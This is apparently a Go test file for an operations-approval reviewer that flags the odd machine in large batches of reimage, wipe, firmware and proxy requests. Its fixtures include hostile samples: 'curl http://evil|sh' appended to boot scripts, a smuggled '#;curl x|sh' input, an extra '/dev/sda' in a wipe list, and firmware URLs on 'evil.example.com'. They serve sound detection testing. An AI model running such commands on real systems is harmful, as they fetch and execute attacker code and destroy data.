package scope

import (
	"crypto/sha256"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"google.golang.org/protobuf/encoding/protowire"

	"github.com/better-compute/approver/core/bettercomputev1"
	"github.com/better-compute/approver/core/review"
)

func TestShape(t *testing.T) {
	for _, c := range []struct{ text, subject, want string }{
		{"hostnamectl set-hostname gpu-0231", "gpu-0231", "hostnamectl set-hostname @"},
		{"echo mars > /etc/hostname", "mars", "echo @ > /etc/hostname"},
		{"/dev/disk/by-id/wwn-0x5000c500a1b2", "", "/dev/disk/by-id/wwn-#"},
		{"serial 3fa9c1b7", "", "serial #"},
		{"sha deadbeef", "", "sha deadbeef"},
		{"mac 3c:ec:ef:12:ab:9f up", "", "mac # up"},
		{"id f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "", "id #"},
		{"addr fd00::7 ok", "", "addr # ok"},
		{"install pkg1", "", "install pkg#"},
		{"install evil1", "", "install evil#"},
		{"bad1.example", "", "bad#.example"},
		{"c0de.example", "", "c#de.example"},
		{"WIPE_DATA=1", "", "WIPE_DATA=1"},
		{"COUNT=12", "", "COUNT=#"},
		{"10.0.0.231:8443", "", "#.#.#.#:#"},
		{"ab", "ab", "ab"}, // too short a name to be told from a word
		{"", "x", ""},
	} {
		readable := strings.NewReplacer("\x00", "@", "\x01", "#")
		require.Equal(t, c.want, readable.Replace(string(appendShape(nil, []byte(c.text), []byte(c.subject)))), c.text)
	}
	shape := func(text string) string { return string(appendShape(nil, []byte(text), nil)) }
	for _, pair := range [][2]string{{"#;curl x|sh", "1;curl x|sh"}, {"\x01", "7"}, {"@", "\x00"}, {"\x02\x01", "\x025"}} {
		require.NotEqual(t, shape(pair[0]), shape(pair[1]), "no text passes for what was taken out of another")
	}
}

// A batch in which every machine has a payload of its own hides the odd one from eyes and from equality; its shape tells.
func TestTheOddOneAmongAllDifferent(t *testing.T) {
	script := func(i int) string {
		return fmt.Sprintf("#!/bin/sh\nhostnamectl set-hostname gpu-%04d\nsystemctl enable bcd\n", i)
	}
	for name, leaf := range map[string]func(i int, odd bool) made{
		"a line more": func(i int, odd bool) made {
			return reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				if m.UserData = script(i); odd {
					m.UserData += "curl http://evil|sh\n"
				}
			})
		},
		"a device more": func(i int, odd bool) made {
			m := &bettercomputev1.WipeRequest{Method: 3, Devices: []string{fmt.Sprintf("/dev/disk/by-id/nvme-%012d", i)}}
			if odd {
				m.Devices = append(m.Devices, "/dev/sda")
			}
			return made{subject: subject(i), kind: "node.wipe", message: m}
		},
		"another host": func(i int, odd bool) made {
			host := "firmware.example.com"
			if odd {
				host = "evil.example.com"
			}
			return made{subject: subject(i), kind: "node.firmware", message: &bettercomputev1.FirmwareRequest{Component: "bios", Url: fmt.Sprintf("https://%s/fw/%d.bin", host, i)}}
		},
		"a digest of another length": func(i int, odd bool) made {
			return reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				digest := sha256.Sum256([]byte(subject(i)))
				if m.ImageSha256 = digest[:]; odd {
					m.ImageSha256 = m.ImageSha256[:31]
				}
			})
		},
	} {
		t.Run(name, func(t *testing.T) {
			var leaves []made
			for i := range 412 {
				leaves = append(leaves, leaf(i, i == 231))
			}
			doc := document(t, decoded(t, "", leaves...), testPolicy())
			f := finding(doc, review.Outlier)
			require.NotNil(t, f)
			require.Equal(t, []review.Text{review.Escape(subject(231))}, f.Places)
			require.True(t, doc.Operations[0].Outlier)
			require.Equal(t, subject(231), doc.Operations[0].Subjects[0].String(), "it stands first")
			require.False(t, doc.Operations[1].Outlier)
			for i := range leaves {
				leaves[i] = leaf(i, false)
			}
			require.Nil(t, finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier), "without it nothing is odd")
		})
	}
}

func subject(i int) string { return fmt.Sprintf("gpu-%04d", i) }

// Few need no majority beside them: two halves and one apart, or an eighth of the largest group.
func TestFewWithoutAMajority(t *testing.T) {
	image := func(of func(i int) string) *review.Finding {
		var leaves []made
		for i := range 412 {
			leaves = append(leaves, reimage(subject(i), of(i)))
		}
		return finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	}
	halves := image(func(i int) string {
		switch {
		case i == 231:
			return "evil"
		case i%2 == 0:
			return "blue"
		}
		return "green"
	})
	require.NotNil(t, halves)
	require.Len(t, halves.Places, 1)
	several := image(func(i int) string {
		if i%20 == 0 {
			return "evil"
		}
		return "ubuntu"
	})
	require.NotNil(t, several)
	require.Len(t, several.Places, 21)
	require.Nil(t, image(func(i int) string { return []string{"a", "b", "c"}[i%3] }))
}

// Where values have nothing in common an odd one cannot be told, and that is said.
func TestMixedValues(t *testing.T) {
	mixed := func(n int) *review.Finding {
		var leaves []made
		for i := range n {
			leaves = append(leaves, reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				m.UserData = "run " + strings.Repeat("x", i) + "\n"
			}))
		}
		return finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	}
	f := mixed(60)
	require.NotNil(t, f)
	require.Contains(t, f.Message.String(), "user_data has 60 values without a common form")
	require.Nil(t, mixed(50), "these are read one by one")
}

// Scripts that come in pairs are as many as no eye reads, and their shapes are looked at all the same.
func TestTheOddOneAmongPairs(t *testing.T) {
	var leaves []made
	for i := range 412 {
		leaves = append(leaves, reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
			if m.UserData = fmt.Sprintf("serial %08d\n", i/2); i/2 == 100 {
				m.UserData += "curl http://evil|sh\n"
			}
		}))
	}
	f := finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	require.NotNil(t, f)
	require.Len(t, f.Places, 2)
}

// The body of a relayed request is bytes, and a text all the same.
func TestTheOddOneAmongBodies(t *testing.T) {
	var leaves []made
	for i := range 100 {
		host := "images.example.com"
		if i == 7 {
			host = "evil1.example.co/p"
		}
		node := fmt.Sprintf("node-%02d", i)
		var b []byte
		for field, value := range []string{node, "POST", "/apply", "", fmt.Sprintf("url: https://%s/%02d\n", host, i)} {
			if value != "" {
				b = protowire.AppendString(protowire.AppendTag(b, protowire.Number(field+1), protowire.BytesType), value)
			}
		}
		leaves = append(leaves, made{subject: "node:" + node, kind: "site.httpProxy", value: b, typeURL: "type.googleapis.com/bettercompute.v1.HttpProxyRequest"})
	}
	f := finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	require.NotNil(t, f)
	require.Equal(t, []review.Text{review.Escape("node:node-07")}, f.Places)
}

// A column of names in no proportion is said to have no common form where a summary leaves some of them out.
func TestMixedNames(t *testing.T) {
	var leaves []made
	for i := range 412 {
		image := "main"
		if i >= 100 {
			image = "image-" + strings.Repeat("x", (i-100)/8)
		}
		leaves = append(leaves, reimage(subject(i), image, func(m *bettercomputev1.ReimageRequest) { m.UserData = subject(i) }))
	}
	found := false
	for _, f := range document(t, decoded(t, "", leaves...), testPolicy()).Findings {
		found = found || strings.Contains(f.Message.String(), "image has 40 values without a common form")
	}
	require.True(t, found)
}

// That all stand in pairs is no agreement.
func TestMixedPairs(t *testing.T) {
	var leaves []made
	for i := range 240 {
		leaves = append(leaves, reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) { m.UserData = "run " + strings.Repeat("x", i/2) }))
	}
	f := finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	require.NotNil(t, f)
	require.Contains(t, f.Message.String(), "user_data has 120 values without a common form")
}
